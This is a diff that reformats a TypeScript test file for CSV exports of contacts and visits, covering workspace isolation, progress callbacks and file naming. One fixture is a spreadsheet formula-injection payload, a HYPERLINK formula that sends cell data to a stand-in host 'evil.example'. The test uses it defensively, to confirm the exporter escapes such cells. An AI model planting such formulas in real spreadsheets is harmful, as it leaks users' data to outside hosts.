@@ -18,9 +18,27 @@ beforeEach(async () => {
 describe('exportContactsCsv', () => {
   it('writes a header and exactly the workspace’s contacts, with a person’s company No., and none of another workspace', async () => {
     const [company] = await seedContacts('T0001', [
-      { type: 'company', name: 'Nordlys Maskin AS', address: 'Strandkaien 12', postCode: '5013', city: 'Bergen', phone: '+47 55 12 34 56', industryGroups: ['MANU', 'RETAIL'], vatRegNo: 'NO 987 654 321 MVA' },
+      {
+        type: 'company',
+        name: 'Nordlys Maskin AS',
+        address: 'Strandkaien 12',
+        postCode: '5013',
+        city: 'Bergen',
+        phone: '+47 55 12 34 56',
+        industryGroups: ['MANU', 'RETAIL'],
+        vatRegNo: 'NO 987 654 321 MVA',
+      },
     ]);
-    await seedContacts('T0001', [{ type: 'person', name: 'Kari Nordmann', companyId: company!.id, companyName: 'Nordlys Maskin AS', jobTitle: 'CEO', email: 'kari@nordlys.no' }]);
+    await seedContacts('T0001', [
+      {
+        type: 'person',
+        name: 'Kari Nordmann',
+        companyId: company!.id,
+        companyName: 'Nordlys Maskin AS',
+        jobTitle: 'CEO',
+        email: 'kari@nordlys.no',
+      },
+    ]);
     await seedContacts('T0002', [{ type: 'company', name: 'Elsewhere AS' }], 'XX');
 
     const file = await exportContactsCsv('T0001');
@@ -40,14 +58,28 @@ describe('exportContactsCsv', () => {
     });
     // "+47…" starts like a formula, so it is written as text.
     expect(records[0]!.Phone).toBe("'+47 55 12 34 56");
-    expect(records[1]).toMatchObject({ Type: 'Person', 'Company No.': company!.no, 'Company name': 'Nordlys Maskin AS', 'First name': 'Kari', Surname: 'Nordmann', 'Job title': 'CEO' });
+    expect(records[1]).toMatchObject({
+      Type: 'Person',
+      'Company No.': company!.no,
+      'Company name': 'Nordlys Maskin AS',
+      'First name': 'Kari',
+      Surname: 'Nordmann',
+      'Job title': 'CEO',
+    });
     expect(records[1]!['Created at (UTC)']).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}Z$/);
     expect(JSON.stringify(records)).not.toContain('Elsewhere');
   });
 
   it('neutralises cells a spreadsheet would run as formulas, and round-trips commas, quotes and line breaks', async () => {
     await seedContacts('T0001', [
-      { type: 'company', name: '=HYPERLINK("http://evil.example/?x="&A1,"Click")', name2: '@SUM(A1:A9)', city: '-2+3', address: '\tTabbed', address2: 'Kaien 1, "bak", 2. etg\nBergen' },
+      {
+        type: 'company',
+        name: '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+        name2: '@SUM(A1:A9)',
+        city: '-2+3',
+        address: '\tTabbed',
+        address2: 'Kaien 1, "bak", 2. etg\nBergen',
+      },
     ]);
     const [record] = parseCsv((await exportContactsCsv('T0001')).bytes);
     expect(record!.Name).toBe('\'=HYPERLINK("http://evil.example/?x="&A1,"Click")');
@@ -62,7 +94,11 @@ describe('exportContactsCsv', () => {
     await seedBook('T0002', 30);
     const progress: [number, number][] = [];
     const file = await exportContactsCsv('T0001', { onProgress: (done, total) => void progress.push([done, total]) });
-    expect(progress).toEqual([[1_000, 2_500], [2_000, 2_500], [2_500, 2_500]]);
+    expect(progress).toEqual([
+      [1_000, 2_500],
+      [2_000, 2_500],
+      [2_500, 2_500],
+    ]);
     const records = parseCsv(file.bytes);
     expect(records).toHaveLength(2_500);
     expect(new Set(records.map((r) => r['No.']))).toEqual(new Set(seeded.map((c) => c.no)));
@@ -82,8 +118,18 @@ describe('exportVisitsCsv', () => {
   it('writes every visit of the workspace, cancelled ones marked, with the source message link', async () => {
     const [kari] = await seedContacts('T0001', [{ type: 'person', name: 'Kari Nordmann' }]);
     const [other] = await seedContacts('T0002', [{ type: 'person', name: 'Ola Elsewhere' }], 'XX');
-    await seedVisit('T0001', kari!, { description: '=1+1 looked fine', cost: 12.5, followUpDate: '2026-12-01', source: { permalink: 'https://acme.slack.com/archives/C1/p1' } });
-    await seedVisit('T0001', kari!, { status: 'cancelled', attemptFailed: true, evaluation: 'negative', companyName: 'Nordlys Maskin AS' });
+    await seedVisit('T0001', kari!, {
+      description: '=1+1 looked fine',
+      cost: 12.5,
+      followUpDate: '2026-12-01',
+      source: { permalink: 'https://acme.slack.com/archives/C1/p1' },
+    });
+    await seedVisit('T0001', kari!, {
+      status: 'cancelled',
+      attemptFailed: true,
+      evaluation: 'negative',
+      companyName: 'Nordlys Maskin AS',
+    });
     await seedVisit('T0002', other!);
 
     const progress: [number, number][] = [];
@@ -107,7 +153,12 @@ describe('exportVisitsCsv', () => {
       Status: 'logged',
       'Source message': 'https://acme.slack.com/archives/C1/p1',
     });
-    expect(records[1]).toMatchObject({ Status: 'cancelled', 'Attempt failed': 'yes', Evaluation: 'Negative', Company: 'Nordlys Maskin AS' });
+    expect(records[1]).toMatchObject({
+      Status: 'cancelled',
+      'Attempt failed': 'yes',
+      Evaluation: 'Negative',
+      Company: 'Nordlys Maskin AS',
+    });
     expect(JSON.stringify(records)).not.toContain('Elsewhere');
   });
 });
@@ -122,7 +173,10 @@ describe('helpers', () => {
   });
 
   it('names the files after the workspace and the day', () => {
-    expect(exportFileNames('T0001', '2026-11-24')).toEqual({ contacts: 'kontakt-contacts-T0001-2026-11-24.csv', visits: 'kontakt-visits-T0001-2026-11-24.csv' });
+    expect(exportFileNames('T0001', '2026-11-24')).toEqual({
+      contacts: 'kontakt-contacts-T0001-2026-11-24.csv',
+      visits: 'kontakt-visits-T0001-2026-11-24.csv',
+    });
   });
 
   it('leaves numbers alone, negative ones too, while text that looks like one is escaped', () => {
